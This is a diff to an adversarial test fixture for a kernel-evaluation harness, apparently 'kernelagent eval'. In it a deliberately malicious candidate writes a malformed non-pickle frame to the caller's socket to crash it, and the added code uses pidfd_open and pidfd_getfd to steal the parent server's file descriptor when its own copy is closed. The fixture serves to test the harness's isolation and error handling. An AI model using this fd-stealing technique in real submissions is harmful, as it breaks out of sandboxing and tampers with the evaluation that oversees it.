@@ -6,6 +6,11 @@ caller's `Connection.recv()` raises an UnpicklingError that `_round_trip` does n
 `kernelagent eval` dies with a traceback (and a `bench` run would abort). Once fixed, garbage on
 a channel is a verdict about the job (`rejected: protocol`), never a crash of the caller.
 
+Against the rebuilt harness: fd N is closed right after the fork, so the candidate also tries
+to take the server's fd N with pidfd_getfd (its parent, same uid). Under a pid namespace the
+parent is not visible (getppid() is 0); with `--isolation none` it may succeed, and then the
+caller must still survive: the frame is neither JSON nor carries the job's nonce.
+
 Its kernel is wrong (x*2+1): with the socket closed to it, the verdict is `incorrect`.
 """
 import os
@@ -17,13 +22,43 @@ import torch.nn as nn
 import triton
 import triton.language as tl
 
-def _attack() -> None:
+def _caller_socket_fds() -> list[int]:
+    """Every way this process might reach the caller<->server socket: the server's `--fd N`
+    (still in sys.argv after the fork) if it is open here, else the server's fd N taken with
+    pidfd_getfd (the server is our parent; it works where ptrace of the parent is allowed,
+    e.g. same uid without Yama, and no pid namespace hides the parent)."""
+    fds = []
     argv = list(sys.argv)
-    fd = int(argv[argv.index("--fd") + 1])
+    number = int(argv[argv.index("--fd") + 1]) if "--fd" in argv else None
+    if number is not None:
+        try:
+            os.fstat(number)
+            fds.append(number)
+        except OSError:
+            try:
+                import ctypes
+
+                libc = ctypes.CDLL(None, use_errno=True)
+                pidfd = libc.syscall(434, os.getppid(), 0)  # pidfd_open
+                if pidfd >= 0:
+                    stolen = libc.syscall(438, pidfd, number, 0)  # pidfd_getfd
+                    if stolen >= 0:
+                        print(f"ka-evil: took the server's fd {number} as {stolen}", flush=True)
+                        fds.append(stolen)
+            except Exception:  # noqa: BLE001
+                pass
+    return fds
+
+
+def _attack() -> None:
     # A well-formed frame (4-byte big-endian length) whose body is not a pickle: the caller's
     # Connection.recv() raises UnpicklingError, which nothing there catches.
     data = b"ka-evil garbage \x00\xff\xfe not a pickle"
-    os.write(fd, struct.pack("!i", len(data)) + data)
+    for fd in _caller_socket_fds():
+        try:
+            os.write(fd, struct.pack("!i", len(data)) + data)
+        except OSError:
+            pass
 
 
 try:
